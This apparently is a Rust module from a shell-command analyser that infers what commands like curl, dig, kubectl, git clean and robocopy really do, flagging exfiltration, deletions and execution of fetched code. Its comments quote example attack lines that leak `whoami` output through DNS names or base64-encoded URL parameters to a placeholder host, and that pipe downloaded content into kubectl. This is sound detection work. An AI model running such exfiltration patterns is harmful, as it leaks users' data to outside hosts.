//! Programs whose words decide together what a command does.

use crate::bound::{Bound, EffectKind};
use crate::effect::{Access, Action, Purpose, Scope, Why};
use crate::host;
use crate::marks::Mark;
use crate::model::Language;
use crate::shell::apply::Context;
use crate::shell::eval::Shell;
use crate::shell::expand::Field;
use crate::shell::line::{Given, Line};
use crate::shell::output::Output;
use crate::word::{Fill, Word};

/// What `screen -X` does to a session without typing anything into it.
const MANAGES_SESSION: &[&str] =
    &["quit", "kill", "detach", "title", "hardcopy", "log", "windows", "select", "number"];

impl Shell<'_, '_> {
    pub(crate) fn decided_by_words(
        &mut self,
        line: &Line<'_>,
        fields: &[Field],
        context: &Context,
    ) {
        let Some(name) = line.models.first().and_then(|model| model.names.first()) else { return };
        match *name {
            "curl" => {
                self.connects_elsewhere(line);
                self.asks_with_data(line);
                self.sends_files(line, context);
            }
            "wget" => self.asks_with_data(line),
            "ansible" => self.ansible_module(line, context),
            "kubectl" | "psql" | "mysql" => self.obeys_fetched_input(name, line, context),
            "tmux" => self.types_lines(line),
            "mvn" | "gradle" => self.takes_from_elsewhere(line),
            "dropdb" => self.drops_its_own(line, context),
            "git" if line.sub_command() == "clean" => self.cleans_outside(line, context),
            "ruby" => self.serves_by_ruby(line),
            "ssh" => self.options_behind_host(line, fields),
            "screen" => {
                let is_it = |given: &&Given| given.spelling == "-X";
                let verb = line.flags.iter().find(is_it).and_then(|given| given.values.first());
                let manages =
                    |verb: &Field| verb.text().is_some_and(|verb| MANAGES_SESSION.contains(&verb));
                if let Some(verb) = verb.filter(|verb| !manages(verb)) {
                    self.opaque(Why::Language, Bound::ALL, verb.span.clone());
                }
            }
            "sysctl" => {
                // The name of a setting is a path below `/proc/sys`.
                for field in line.operands.iter().filter(|it| it.word.known_part().contains("..")) {
                    let mut path = Word::known("/proc/sys/");
                    path.push_word(&field.word);
                    self.read_file(&Field::new(path, field.span.clone()), Access::Content);
                }
            }
            _ => {}
        }
        match fields.first().and_then(Field::text).unwrap_or_default() {
            "cc" | "gcc" | "g++" | "c++" | "clang" | "clang++" | "tcc" | "go" | "rustc"
            | "javac" | "java" | "swift" | "swiftc" | "zig" | "csc" | "mcs" | "scala"
            | "kotlinc" => {
                self.compiles(line, context);
            }
            "dig" | "host" | "nslookup" | "drill" | "ping" | "kdig" | "delv" => {
                self.asks_with_names(line);
            }
            // `busybox httpd -h FOLDER`
            "httpd" if self.is_below("busybox") => {
                let folder = line.flags.iter().find(|given| given.spelling == "-h");
                let here = Field::new(Word::known("."), context.span.clone());
                let folder = folder.and_then(|given| given.values.first()).unwrap_or(&here).clone();
                self.read_file(&folder, Access::Tree);
            }
            "robocopy" => self.mirrors(line),
            "yq" => {
                let loads = |field: &&Field| field.word.known_part().contains("load");
                if let Some(code) = line.operands.iter().find(loads) {
                    self.code(Language::Expression, code);
                }
            }
            // What they read names files that become a part of what they print.
            "groff" | "troff" | "nroff" | "pdflatex" | "latex" | "xelatex" | "lualatex"
            | "xmllint" => {
                if let Some(Output::Text(text)) = context.input.as_deref() {
                    let code = Field::new(text.clone(), context.span.clone());
                    self.code(Language::Expression, &code);
                }
            }
            _ => {}
        }
    }

    /// `curl --resolve NAME:PORT:ADDRESS` asks another host than the URL says.
    fn connects_elsewhere(&mut self, line: &Line<'_>) {
        for given in &line.flags {
            let skipped = match given.spelling.as_str() {
                "--resolve" | "--connect-to" => 2,
                _ => continue,
            };
            let Some(field) = given.values.first() else { continue };
            let text = field.word.known_part();
            let at = text.match_indices(':').nth(skipped - 1).map(|(at, _)| at + 1);
            let Some(target) = at.map(|at| field.from(at)) else { continue };
            let address = host::parse_host(&target.word, "");
            let is_private = address.host.text().is_some_and(is_private);
            if !is_private {
                self.opaque(Why::Language, Bound::ALL, field.span.clone());
            }
            self.connect(address, Purpose::Fetch, None, field.span.clone());
        }
    }

    /// `robocopy FROM TO /MIR` deletes what is only in the target.
    fn mirrors(&mut self, line: &Line<'_>) {
        let mut words = line.words.iter().filter_map(Field::text);
        let deletes = words.any(|word| {
            matches!(word.to_ascii_lowercase().as_str(), "/mir" | "/purge" | "//mir" | "//purge")
        });
        if let Some(target) = line.operands.get(1).filter(|_| deletes) {
            let could = Bound::just(EffectKind::Deletes);
            self.path_effect(target, could, |path| Action::Deletes(path, Scope::Tree));
        }
    }

    /// A source that the text itself has written.
    fn compiles(&mut self, line: &Line<'_>, context: &Context) {
        for field in line.operands.iter().take(8) {
            let is_input = field.text() == Some("-");
            let text = match (&context.input, is_input) {
                (Some(input), true) => input.known().map(str::to_owned),
                _ if self.written.is_empty() => None,
                _ => self.file_output(field).known().map(str::to_owned),
            };
            if let Some(text) = text {
                let code = Field::new(Word::known(text), field.span.clone());
                self.code(Language::Compiled, &code);
            }
        }
    }

    /// `host "$(whoami).h.example"`: the question carries what the command in it has printed.
    fn asks_with_names(&mut self, line: &Line<'_>) {
        for field in line.operands.iter().take(16) {
            let is_printed = |gap: &crate::word::Gap| gap.fill == Fill::Name;
            let is_below = field.word.known_part().trim_start_matches('.').contains('.');
            let is_made = field.word.gaps().iter().any(is_printed)
                || field.word.misses_value() && self.encodes_in(&field.span);
            if is_below && is_made {
                let address = host::parse_host(&field.word, "");
                self.connect(address, Purpose::Send, None, field.span.clone());
            }
        }
    }

    /// Whether a command inside of these words makes letters of any data.
    fn encodes_in(&self, span: &std::ops::Range<usize>) -> bool {
        self.out.effects.all().iter().any(|effect| {
            effect.at.span.start >= span.start
                && effect.at.span.end <= span.end
                && is_encoder(effect)
        })
    }

    /// Whether a command since then makes letters of any data.
    pub(crate) fn has_encoded(&self, before: usize) -> bool {
        self.out.since(before).iter().any(is_encoder)
    }

    /// `curl "https://h.example/?d=$(… | base64)"`: the address carries what the command prints.
    fn asks_with_data(&mut self, line: &Line<'_>) {
        for field in line.operands.iter().take(16) {
            if field.word.misses_value()
                && field.word.known_start().contains("://")
                && self.encodes_in(&field.span)
            {
                let address = host::parse_host(&field.word, "");
                self.connect(address, Purpose::Send, None, field.span.clone());
            }
        }
    }

    /// `curl -G -d @FILE`, where a file becomes a part of the URL, and addresses that get the input.
    fn sends_files(&mut self, line: &Line<'_>, context: &Context) {
        let is_get = |given: &Given| matches!(given.spelling.as_str(), "-G" | "--get");
        let is_data =
            |given: &Given| matches!(given.spelling.as_str(), "-d" | "--data" | "--data-urlencode");
        let is_file = |given: &Given| {
            let value = given.values.first().map_or("", |value| value.word.known_start());
            let name = value.split('@').next().unwrap_or_default();
            is_data(given)
                && name.len() < value.len()
                && name.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'_')
        };
        let is_sent = line.flags.iter().any(is_get) && line.flags.iter().any(is_file);
        for field in line.operands.iter().take(16) {
            let start = field.word.known_start();
            let takes_input = ["telnet://", "gopher://", "mqtt://", "dict://"]
                .iter()
                .any(|scheme| start.starts_with(scheme));
            if is_sent || takes_input && context.input.is_some() {
                let address = host::parse_host(&field.word, "");
                self.connect(address, Purpose::Send, None, field.span.clone());
            }
        }
    }

    /// `curl URL | kubectl apply -f -`, `curl URL | psql`: what comes from the network is obeyed.
    fn obeys_fetched_input(&mut self, name: &str, line: &Line<'_>, context: &Context) {
        if !matches!(context.input.as_deref(), Some(Output::Network(_))) {
            return;
        }
        let has = |spellings: &[&str], value: Option<&str>| {
            line.flags.iter().any(|given| {
                let given_value = given.values.first().and_then(Field::text);
                spellings.contains(&given.spelling.as_str())
                    && (value.is_none() || given_value == value)
            })
        };
        let obeys = match name {
            "kubectl" => has(&["-f", "--filename"], Some("-")),
            _ => !has(&["-c", "--command", "-e", "--execute", "-f", "--file"], None),
        };
        if obeys {
            self.opaque(Why::NetworkCode, Bound::ALL, context.span.clone());
        }
    }

    /// `tmux send-keys 'LINE' Enter`: the names of keys are no part of the line.
    fn types_lines(&mut self, line: &Line<'_>) {
        if !line.models.last().is_some_and(|model| model.names.contains(&"send-keys")) {
            return;
        }
        let is_key = |field: &&Field| {
            field.text().is_some_and(|text| {
                matches!(text, "Enter" | "KPEnter" | "Space" | "Escape")
                    || text.len() == 3 && text.starts_with("C-")
            })
        };
        if !line.operands.iter().any(|field| is_key(&field)) {
            return;
        }
        for field in line.operands.iter().filter(|field| !is_key(field)).take(16) {
            self.word_text(field);
        }
    }

    /// `ssh HOST -o OPTION COMMAND`: options may follow the host.
    fn options_behind_host(&mut self, line: &Line<'_>, fields: &[Field]) {
        let (Some(program), Some((host, rest))) = (fields.first(), line.operands.split_first())
        else {
            return;
        };
        if rest.first().is_some_and(|field| field.word.known_start().starts_with('-')) {
            let mut words = vec![program.clone()];
            words.extend(rest.iter().cloned());
            words.push(host.clone());
            drop(self.run(&words, None));
        }
    }

    /// `mvn -Dmaven.repo.remote=https://…`
    fn takes_from_elsewhere(&mut self, line: &Line<'_>) {
        for field in line.words.iter().take(32) {
            let start = field.word.known_start();
            let Some(at) = start.find('=').filter(|_| start.starts_with("-D")) else { continue };
            let name = start.get(..at).unwrap_or_default().to_ascii_lowercase();
            let is_source = ["repo", "mirror", "remote"].iter().any(|part| name.contains(part));
            let value = field.from(at + 1);
            if is_source && let Some(address) = host::parse_url(&value.word) {
                self.connect(address, Purpose::Execute, Some(&value.word), field.span.clone());
            }
        }
    }

    /// `createdb x; …; dropdb x`: nothing is lost that was there before.
    fn drops_its_own(&mut self, line: &Line<'_>, context: &Context) {
        let Some(dropped) = line.operands.first() else { return };
        let made =
            self.out.effects.all().iter().rev().take(64).any(|effect| match &effect.action {
                Action::Runs(run) => {
                    run.program.text() == Some("createdb") && run.words.contains(&dropped.word)
                }
                _ => false,
            });
        if made && let Some(run) = self.out.run_mut(context.run) {
            run.marks.remove_all(&[Mark::Database]);
        }
    }

    /// `git clean` in a folder that is not in the project.
    fn cleans_outside(&mut self, line: &Line<'_>, context: &Context) {
        let flags = || line.words.iter().filter_map(Field::text).filter(|it| it.starts_with('-'));
        let only_shows = flags().any(|flag| flag == "--dry-run" || is_short(flag, 'n'));
        let takes_all = flags().any(|flag| is_short(flag, 'd') || is_short(flag, 'x'));
        let folder = self.folder.text().unwrap_or_default().to_owned();
        let own = self.out.ground.workspace.unwrap_or_default().trim_end_matches('/');
        let is_own = own.is_empty() || folder.is_empty() || folder.starts_with(own);
        let is_scratch = folder.starts_with("/tmp/") || folder.starts_with("/var/tmp/");
        if takes_all && !only_shows && !is_own && !is_scratch {
            let folder = Field::new(Word::known(folder), context.span.clone());
            let could = Bound::just(EffectKind::Deletes);
            self.path_effect(&folder, could, |path| Action::Deletes(path, Scope::Tree));
        }
    }

    /// `ruby -run -e httpd FOLDER`
    fn serves_by_ruby(&mut self, line: &Line<'_>) {
        let mut words = line.words.iter().filter_map(Field::text);
        if !words.any(|word| word == "-run") || !words.any(|word| word == "httpd") {
            return;
        }
        let at = line.words.iter().position(|field| field.text() == Some("httpd"));
        let folder = at.and_then(|at| line.words.get(at + 1));
        let is_folder = |field: &&Field| !field.word.known_start().starts_with('-');
        let here = Field::new(Word::known("."), 0..0);
        self.read_file(folder.filter(is_folder).unwrap_or(&here), Access::Tree);
    }

    /// Whether a program with that name runs the command.
    fn is_below(&self, name: &str) -> bool {
        let command = |at: usize| self.out.effects.commands.get(at);
        let above = self.parent.and_then(command).and_then(|own| own.parent).and_then(command);
        above.is_some_and(|above| above.program.text() == Some(name))
    }

    /// A key is read, and only its public part is shown.
    pub(crate) fn shows_public_part(&mut self, before: usize) {
        let paths: Vec<_> = self
            .out
            .since(before)
            .iter()
            .filter_map(|effect| match &effect.action {
                Action::Reads(path, Access::Content) => {
                    Some((path.clone(), effect.at.span.clone()))
                }
                _ => None,
            })
            .collect();
        self.out
            .effects
            .forget(before, |action| matches!(action, Action::Reads(_, Access::Content)));
        for (path, span) in paths {
            self.push(Action::Reads(path, Access::Names), span);
        }
    }
}

/// `openssl rsa -pubout`, `openssl rsa -noout -modulus`
pub(super) fn hides_private_part(line: &Line<'_>) -> bool {
    let has = |flag: &str| line.words.iter().any(|word| word.text() == Some(flag));
    has("-pubout") || has("-noout") && !has("-text")
}

fn is_short(flag: &str, letter: char) -> bool {
    !flag.starts_with("--") && flag.contains(letter)
}

/// Addresses of this machine and of private networks.
fn is_private(host: &str) -> bool {
    host::ip(host).is_some_and(|address| match address {
        std::net::IpAddr::V4(v4) => v4.is_loopback() || v4.is_private(),
        std::net::IpAddr::V6(v6) => v6.is_loopback(),
    }) || host == "localhost"
}
/// A command that makes letters of any data.
fn is_encoder(effect: &crate::effect::Effect) -> bool {
    let Action::Runs(run) = &effect.action else { return false };
    let name = run.program.text().unwrap_or_default();
    matches!(name, "base64" | "base32" | "basenc" | "xxd" | "od" | "hexdump" | "uuencode" | "gzip")
}
